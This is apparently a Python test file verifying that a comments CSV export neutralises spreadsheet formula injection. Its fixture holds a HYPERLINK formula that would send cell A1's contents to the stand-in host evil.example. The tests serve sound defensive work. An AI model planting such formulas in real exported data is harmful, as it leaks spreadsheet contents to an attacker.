"""The open-data CSV never hands a spreadsheet a formula to run (OWASP CSV injection)."""
import csv
import io

from services.archive import domain

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


def exported_comments(*bodies: str) -> list[dict]:
    records = [{"idea_id": "idea-1", "comment_id": f"c{n}", "parent_id": None, "author_name": "@Rosa",
                "posted_at": "2026-04-02T11:00:00+10:00", "edited_at": None, "body": body, "licence": "CC-BY-4.0"}
               for n, body in enumerate(bodies)]
    return list(csv.DictReader(io.StringIO(domain.to_csv("comments", records))))


def test_a_comment_that_is_a_hyperlink_formula_is_exported_as_inert_text():
    (row,) = exported_comments(HYPERLINK)
    assert row["body"] == "'" + HYPERLINK


def test_every_character_a_spreadsheet_starts_a_formula_with_is_neutralised():
    bodies = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
    assert [row["body"] for row in exported_comments(*bodies)] == ["'" + body for body in bodies]


def test_names_are_neutralised_too_and_ordinary_text_is_untouched():
    (row,) = exported_comments("A sensible comment - with a dash inside")
    assert row["author_name"] == "'@Rosa"
    assert row["body"] == "A sensible comment - with a dash inside"
